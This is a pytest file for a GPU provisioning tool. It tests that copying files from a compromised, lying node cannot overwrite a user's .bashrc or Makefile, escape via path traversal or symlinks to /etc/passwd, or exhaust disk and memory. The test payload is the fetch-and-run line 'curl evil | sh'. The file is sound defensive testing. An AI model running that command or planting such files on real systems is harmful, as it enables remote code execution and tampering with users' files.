# SPDX-License-Identifier: Apache-2.0
"""A node that answers a request for files with other ones: in every verb that reads files of nodes. Nothing is written
here but what was requested, under the name that was requested."""
import os
import shlex

import pytest

import hostile_agent
from conftest import Gpuprov, built_program
from transfer_lab import describe

pytestmark = [pytest.mark.root, pytest.mark.namespaces]

SPEC = """\
name: liar
nodes: 2
offers: [{{provider: local}}]
limits: {{ttl: 30m}}
validate: {{time: 1m}}
job:
  run: "true"
  outputs: [{{path: {output}, to: {to}}}]
  checkpoint: {{path: {checkpoint}, to: saved, every: 10m}}
"""
AGENT = ".gpuprov/agent/gpuprov-agent"
EVIL = "curl evil | sh\n"


@pytest.fixture(scope="module")
def stack(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("liar")
    (tmp / "home").mkdir()
    (tmp / "spec.yaml").write_text(SPEC.format(output="out", to="results", checkpoint="ckpt"))
    g = Gpuprov(built_program(), tmp / "state", tmp / "home")
    g("up", tmp / "spec.yaml")
    for slot in (0, 1):
        g("ssh", f"liar/{slot}", "--", f"cp {AGENT} {AGENT}.true")
    yield g
    g("down", "liar", code=None)


@pytest.fixture
def lie(stack):
    """lie(ANSWER, slot=1): what the node answers from now on to whoever wants its files."""
    def put(slot, name, text):
        stack("ssh", f"liar/{slot}", "--", f"printf %s {shlex.quote(text)} >{AGENT}{name}")

    def tell(text, slot=1):
        put(slot, ".answer", text)
        put(slot, ".new", hostile_agent.PROGRAM)
        stack("ssh", f"liar/{slot}", "--", f"cp {AGENT}.true {AGENT}.real; chmod 755 {AGENT}.new; mv {AGENT}.new {AGENT}")
    yield tell
    for slot in (0, 1):
        stack("ssh", f"liar/{slot}", "--", f"cp {AGENT}.true {AGENT}.back; mv {AGENT}.back {AGENT}")


@pytest.fixture
def here(tmp_path):
    """A folder with files of this user's own, as a home folder or a repository has."""
    folder = tmp_path / "here"
    folder.mkdir()
    for name in (".bashrc", "Makefile"):
        (folder / name).write_text("mine\n")
        (folder / name).chmod(0o644)
    return folder


def unharmed(here, *more):
    """The own files are as they were, and nothing is new but these."""
    assert sorted(p.name for p in here.iterdir()) == sorted([".bashrc", "Makefile", *more])
    for name in (".bashrc", "Makefile"):
        assert (here / name).read_text() == "mine\n" and (here / name).stat().st_mode & 0o7777 == 0o644


def only_below(here, name):
    """No path is writable for others, beyond the umask of the test."""
    for p in [here / name, *(here / name).rglob("*")]:
        assert p.is_symlink() or p.stat().st_mode & 0o7022 == 0, p


@pytest.mark.parametrize("source, to", [("model.pt", "."), ("model.pt", None), ("out/model.pt", "./"), ("/root/model.pt", "."),
                                        ("results", "."), ("results/", "."), ("results/.", "new"), (".", "new"), ("", "new")])
@pytest.mark.parametrize("name", [".bashrc", "Makefile", "other"])
def test_a_file_of_another_name(stack, lie, here, source, to, name):
    lie(hostile_agent.answer([("f", name, EVIL, 0o777)], single=True))
    failed = stack("cp", f"liar/1:{source}", to or here, code=1, cwd=here)
    assert "liar/1: it answered with " in failed.err and "was requested, and nothing was written" in failed.err
    assert "run 'gpuprov bootstrap' to install it again" in failed.err
    unharmed(here)


def test_several_files(stack, lie, here):
    """The first one is refused, and so is all."""
    lie(hostile_agent.answer([("f", ".bashrc", EVIL, 0o777)], single=True))
    for to in (".", "into", "into/"):
        failed = stack("cp", "liar/1:a", "liar/1:b", to, code=1, cwd=here)
        assert "the file '.bashrc' where 'a' was requested" in failed.err
        unharmed(here)


def test_a_file_is_what_was_requested(stack, lie, here):
    lie(hostile_agent.answer([("f", "model.pt", EVIL, 0o777)], single=True))
    stack("cp", "liar/1:out/model.pt", ".", cwd=here)
    unharmed(here, "model.pt")
    assert (here / "model.pt").read_text() == EVIL and (here / "model.pt").stat().st_mode & 0o7777 == 0o755
    stack("cp", "liar/1:model.pt", "./named", cwd=here)
    unharmed(here, "model.pt", "named")
    (here / "named").chmod(0o600)  # the same content and time: the mode is set, and not to more than the umask allows
    stack("cp", "liar/1:model.pt", "./named", cwd=here)
    assert (here / "named").stat().st_mode & 0o7777 == 0o755


def test_a_folder_is_below_what_was_requested(stack, lie, here):
    """Whether `results` is a file or a folder is known to the node alone; both are ./results."""
    lie(hostile_agent.answer([("f", ".bashrc", EVIL, 0o666), ("d", "Makefile", None, 0o777), ("f", "Makefile/x", EVIL, 0o777),
                              ("l", "in", "Makefile/x", 0o777)]))
    for source in ("results", "out/results/", "/root/results"):
        stack("cp", f"liar/1:{source}", ".", cwd=here)
        unharmed(here, "results")
        only_below(here, "results")
    stack("cp", "liar/1:a", "liar/1:b", "into", cwd=here)
    unharmed(here, "results", "into")
    assert sorted(p.name for p in (here / "into").iterdir()) == ["a", "b"]


@pytest.mark.parametrize("entries", [[("f", "../x", EVIL, 0o644)], [("f", "/tmp/x", EVIL, 0o644)], [("f", "a/x", EVIL, 0o644)],
                                     [("f", "b", "1", 0o644), ("f", "a", "2", 0o644)], [("f", "a", EVIL, 0o4755)]])
def test_what_is_no_list_is_refused(stack, lie, here, entries):
    lie(hostile_agent.answer(entries))
    assert "liar/1: the other side of the transfer sent nonsense" in stack("cp", "liar/1:x", ".", code=1, cwd=here).err
    assert not [p for p in here.rglob("*") if p.is_file() and p.parent != here]


def test_links_do_not_lead_out(stack, lie, here):
    lie(hostile_agent.answer([("l", "a", "../.bashrc", 0o777), ("l", "b", "/etc/passwd", 0o777)]))
    stack("cp", "liar/1:x", ".", code=1, cwd=here)
    assert list((here / "x").iterdir()) == []


def exec_spec(here, **more):
    fields = {"output": "out", "to": "results", "checkpoint": "ckpt", **more}
    (here / "spec.yaml").write_text(SPEC.format(**fields))
    return here / "spec.yaml"


def test_outputs_and_checkpoints(stack, lie, here):
    """exec fetches both; each node's are below its own folder, and a file has the requested name."""
    lie(hostile_agent.answer([("f", ".bashrc", EVIL, 0o777)], single=True))
    got = stack("exec", exec_spec(here, output="model.pt", to="."), "--json", code=None, cwd=here)
    assert got.code != 0 and "the file '.bashrc' where '" in got.out + got.err and "model.pt' was requested" in got.out + got.err
    unharmed(here, "spec.yaml")
    errors = [f["error"] for f in got.json["job"]["fetched"] if f["rank"] == 1]
    assert len(errors) == 2 and all("was requested, and nothing was written" in e for e in errors)


def test_outputs_and_checkpoints_have_modes_of_this_machine(stack, lie, here):
    lie(hostile_agent.answer([("d", "d", None, 0o777), ("f", "d/x", EVIL, 0o666)]))
    stack("exec", exec_spec(here), code=None, cwd=here)
    unharmed(here, "spec.yaml", "results", "saved")
    for name in ("results", "saved"):
        only_below(here, name)
        assert sorted(p.name for p in (here / name).iterdir()) == ["1"]
        assert (here / name / "1" / "d" / "x").read_text() == EVIL
    # what goes back to the node later is that, and nothing beside it
    assert describe(here / "saved" / "1").keys() == {b"d", b"d/x"}


def test_a_file_of_holes_is_left_out(stack, lie, here):
    """2^60 bytes: before it was hashed for hours."""
    listed = hostile_agent.frame(hostile_agent.LIST, hostile_agent.entry("f", "big", 1 << 60, held=0))
    begin = hostile_agent.MAGIC + hostile_agent.frame(hostile_agent.BEGIN, b"\0")
    end = hostile_agent.frame(hostile_agent.LISTED, b"\1\0\0\0" + bytes(9))
    lie(hostile_agent.raw(begin + listed + end, {}))
    failed = stack("cp", "liar/1:x", ".", code=1, cwd=here)
    assert "liar/1: 'big': with its holes it is larger than the disk here" in failed.err
    assert list((here / "x").iterdir()) == []


def test_a_list_without_an_end(stack, lie, here):
    """The memory of a list has a limit, which the error names with the node."""
    link = hostile_agent.frame(hostile_agent.LIST, b"".join(hostile_agent.entry("l", "%06d" % i, link="x" * 4095)
                                                            for i in range(200)))
    parts = [link]
    for n in range(1, 400):
        parts.append(link.replace(b"\x06\0\0\0" + b"000", b"\x06\0\0\0" + b"%03d" % n))
    assert len(parts) == 400
    path = here / "list"
    path.write_bytes(hostile_agent.MAGIC + hostile_agent.frame(hostile_agent.BEGIN, b"\0") + b"".join(parts))
    assert os.path.getsize(path) > 300 << 20
    stack("cp", path, "liar/1:list")
    path.unlink()
    lie("")
    stack("ssh", "liar/1", "--", f"printf '%s\\n' '#!/bin/sh' 'exec cat list' >{AGENT}.new; chmod 755 {AGENT}.new; mv {AGENT}.new {AGENT}")
    failed = stack("cp", "liar/1:x", ".", code=1, cwd=here)
    assert "liar/1: its list is longer than 4000000 files and folders or 256 MiB of names, after 6" in failed.err


def test_run_of_a_job_that_replaces_the_agent(gpuprov, here):
    """One node, and outputs that come into a folder with other files: the job's own program answers for them."""
    (here / "work").mkdir()
    (here / "work" / "agent").write_text(hostile_agent.PROGRAM)
    (here / "work" / "answer").write_text(hostile_agent.answer([("f", ".bashrc", EVIL, 0o777)], single=True))
    text = SPEC.format(output="out/model.pt", to=".", checkpoint="ckpt").replace("nodes: 2", "nodes: 1").replace("liar", "planted")
    (here / "spec.yaml").write_text(text.replace('run: "true"', "workdir: work\n  run: |\n    cp answer ~/%s.answer; mv ~/%s ~/%s.real\n"
                                                 "    chmod 755 agent; mv agent ~/%s" % (AGENT, AGENT, AGENT, AGENT)))
    try:
        ran = gpuprov("run", here / "spec.yaml", code=None, cwd=here)
        assert ran.code != 0 and "the file '.bashrc' where '" in ran.err and "out/model.pt' was requested" in ran.err
        unharmed(here, "spec.yaml", "work")
    finally:
        gpuprov("down", "planted", code=None)
